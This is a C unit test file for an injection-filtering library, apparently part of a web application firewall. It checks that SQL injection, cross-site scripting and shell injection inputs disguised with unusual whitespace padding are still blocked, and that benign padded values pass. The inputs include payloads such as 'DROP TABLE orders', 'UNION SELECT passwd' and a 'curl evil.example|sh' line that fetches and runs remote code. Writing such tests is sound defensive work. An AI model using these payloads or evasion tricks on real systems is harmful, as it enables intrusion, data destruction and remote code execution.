/* formsfix2 (session 33): the trimmed form drops the union of what the
 * applications' trims drop (Python's str.strip, JavaScript's trim,
 * Java's String.trim, PHP's trim), and a collapsed form (Rails' squish,
 * " ".join(s.split())) of the raw and URL-decoded values -- in wordings
 * of their own, beside review25's tests; the twins stay allowed. */
#include "agent_test.h"

#define L(s) s, sizeof(s) - 1

static int check(int kind, int ikind, const char *input, size_t ilen, const char *op)
{
	const struct moat_policy *p = moat_policy_parse(
	    "{\"interceptors\":{\"sql_injection\":{\"mode\":\"block\"},"
	    "\"xss\":{\"mode\":\"block\"},\"command_injection\":{\"mode\":\"block\"}}}",
	    1, NULL, 0);
	struct moat_request_info ri = {.method = "POST", .endpoint = "/orders"};
	struct moat_request *r = NULL;
	int v = -1;

	assert_non_null(p);
	ri.policy = p;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_policy_release(p);
	assert_int_equal(moat_request_add_input(r, ikind, "f", input, ilen), 0);
	if (kind == 0)
		v = moat_check_sql(r, MOAT_SQL_POSTGRES, op, strlen(op));
	else if (kind == 1)
		v = moat_check_html(r, op, strlen(op));
	else
		v = moat_check_shell(r, op, strlen(op));
	moat_request_end(r);
	return v;
}

static void attacks_padded_with_other_space_block(void **state)
{
	static const char nul_pad[] = "\0\0 2; DROP TABLE orders --\0";

	(void)state;
	/* U+3000 and U+00A0 (Python's strip), U+FEFF (JavaScript's trim) */
	assert_int_equal(check(0, MOAT_INPUT_FORM,
	                       L("\xe3\x80\x80"
	                         "abc' OR 'a'='a\xe3\x80\x80"),
	                       "SELECT id FROM orders WHERE ref = 'abc' OR 'a'='a'"),
	                 MOAT_BLOCK);
	assert_int_equal(check(0, MOAT_INPUT_JSON,
	                       L("\xef\xbb\xbf"
	                         "2; DROP TABLE orders --\xc2\xa0"),
	                       "SELECT * FROM items WHERE id = 2; DROP TABLE orders --"),
	                 MOAT_BLOCK);
	/* NUL and \x02 (Java's trim, PHP's) */
	assert_int_equal(check(0, MOAT_INPUT_FORM, nul_pad, sizeof nul_pad - 1,
	                       "SELECT * FROM items WHERE id = 2; DROP TABLE orders --"),
	                 MOAT_BLOCK);
	assert_int_equal(check(1, MOAT_INPUT_FORM, L("\x02\x1d<svg/onload=confirm(7)>\x02"),
	                       "<div>Name: <svg/onload=confirm(7)></div>"),
	                 MOAT_BLOCK);
	/* percent-encoded pads, a query value: the decoded form's trim */
	assert_int_equal(check(2, MOAT_INPUT_QUERY, L("%1e%e2%80%a9a.txt%3B+uname+-a%1f"),
	                       "cat /srv/files/a.txt; uname -a"),
	                 MOAT_BLOCK);
}

static void attacks_whose_space_is_collapsed_block(void **state)
{
	(void)state;
	assert_int_equal(check(0, MOAT_INPUT_FORM, L("1\r\n\r\nOR\r\n\r\n2>1"),
	                       "SELECT * FROM t WHERE a = 1 OR 2>1"),
	                 MOAT_BLOCK);
	/* U+2028 and \x1f between the words (Python's split) */
	assert_int_equal(check(0, MOAT_INPUT_FORM,
	                       L("o'\xe2\x80\xa8UNION\x1fSELECT\x1fpasswd\x1f--"),
	                       "SELECT name FROM users WHERE nick = 'o' UNION SELECT passwd --'"),
	                 MOAT_BLOCK);
	/* a query value whose decoded form has the tabs */
	assert_int_equal(check(0, MOAT_INPUT_QUERY, L("x%27%09%09or%09true--"),
	                       "SELECT * FROM t WHERE n = 'x' or true--'"),
	                 MOAT_BLOCK);
	/* a Unicode space that only the decoded form holds */
	assert_int_equal(check(0, MOAT_INPUT_QUERY, L("x%27%e2%80%a8or%e2%80%a8true--"),
	                       "SELECT * FROM t WHERE n = 'x' or true--'"),
	                 MOAT_BLOCK);
	assert_int_equal(check(2, MOAT_INPUT_FORM, L("log.txt  &&  curl  evil.example|sh"),
	                       "tail -n 20 log.txt && curl evil.example|sh"),
	                 MOAT_BLOCK);
	assert_int_equal(check(1, MOAT_INPUT_FORM, L("<iframe\n\nsrcdoc=x\n\nonload=alert(2)>"),
	                       "<p>From: <iframe srcdoc=x onload=alert(2)></p>"),
	                 MOAT_BLOCK);
}

static void benign_values_trimmed_or_collapsed_stay_allowed(void **state)
{
	(void)state;
	assert_int_equal(check(0, MOAT_INPUT_FORM, L("\xe3\x80\x80山田  太郎\xe3\x80\x80"),
	                       "INSERT INTO people(name) VALUES ('山田 太郎')"),
	                 MOAT_ALLOW);
	assert_int_equal(check(0, MOAT_INPUT_FORM, L("Thanks,\n\n  see you  at 5 o'clock\t"),
	                       "INSERT INTO notes(body) VALUES ('Thanks, see you at 5 o''clock')"),
	                 MOAT_ALLOW);
	assert_int_equal(check(1, MOAT_INPUT_FORM,
	                       L("\xef\xbb\xbf"
	                         "12  Rue\tde la Paix  "),
	                       "<address>12 Rue de la Paix</address>"),
	                 MOAT_ALLOW);
	assert_int_equal(check(2, MOAT_INPUT_FORM, L("\x01summer  photos 2025.zip\x01"),
	                       "unzip -l 'summer photos 2025.zip'"),
	                 MOAT_ALLOW);
	assert_int_equal(check(0, MOAT_INPUT_QUERY, L("caf%C3%A9+%09+cr%C3%A8me"),
	                       "SELECT * FROM menu WHERE item = 'café crème'"),
	                 MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(attacks_padded_with_other_space_block),
	    cmocka_unit_test(attacks_whose_space_is_collapsed_block),
	    cmocka_unit_test(benign_values_trimmed_or_collapsed_stay_allowed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
